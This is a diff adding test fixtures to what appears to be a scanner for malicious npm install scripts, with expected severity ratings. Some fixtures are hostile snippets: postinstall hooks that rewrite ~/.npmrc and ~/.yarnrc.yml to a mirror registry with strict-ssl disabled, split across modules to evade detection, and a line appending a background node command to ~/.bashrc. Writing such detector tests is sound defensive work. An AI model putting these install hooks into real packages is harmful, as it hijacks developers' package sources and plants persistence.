@@ -136,6 +136,17 @@ require("fs").writeFileSync(require("path").join(site, "zz_bridge.pth"), "import
 		{"npmrc_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(process.env.INIT_CWD, ".npmrc"), "legacy-peer-deps=true\n")`}, finding.SeverityHigh},
 		{"npmrc_config_tool", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"); fs.writeFileSync(os.homedir() + "/.npmrc", "registry=https://registry.example.invalid/\n")`}, finding.SeverityNone},
+		// the same across modules: the files named in one, written by
+		// another, the settings and the mirror in the script itself
+		{"npmrc_settings_split_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"targets.js": `const os=require("os"),path=require("path"); module.exports = () => [path.join(os.homedir(), ".npmrc"), path.join(os.homedir(), ".yarnrc.yml")]`,
+			"rc.js":      `const fs=require("fs"); exports.apply = (file, kv) => fs.writeFileSync(file, Object.entries(kv).map(([k, v]) => k + "=" + v).join("\n"))`,
+			"i.js":       `const targets=require("./targets"), rc=require("./rc"); for (const f of targets()) rc.apply(f, { registry: "https://mirror.example.invalid/", "strict-ssl": "false" })`}, finding.SeverityCritical},
+		// a binary installer reading the registry from .npmrc and writing
+		// what it downloads from its own host
+		{"npmrc_read_by_downloader_split", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"conf.js": `const fs=require("fs"),os=require("os"),path=require("path"); module.exports = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8")`,
+			"i.js":    `const conf=require("./conf"), fs=require("fs"); const strict = { "strict-ssl": /strict-ssl=false/.test(conf()) }; require("https").get("https://dl.example.invalid/bin", strict, (r) => r.pipe(fs.createWriteStream("bin/tool")))`}, finding.SeverityNone},
 		// a weak match first must not hide a strong one after it
 		{"workflow_then_bashrc", map[string]string{"index.js": `const fs=require("fs"),p=require("path"),os=require("os"); fs.writeFileSync(".github/workflows/ci.yml", y); fs.appendFileSync(p.join(os.homedir(), ".bashrc"), "node ~/.x.js &")`}, finding.SeverityHigh},
 		{"reads_bashrc", map[string]string{"index.js": `const fs=require("fs"); fs.existsSync("~/.bashrc")`}, finding.SeverityNone},
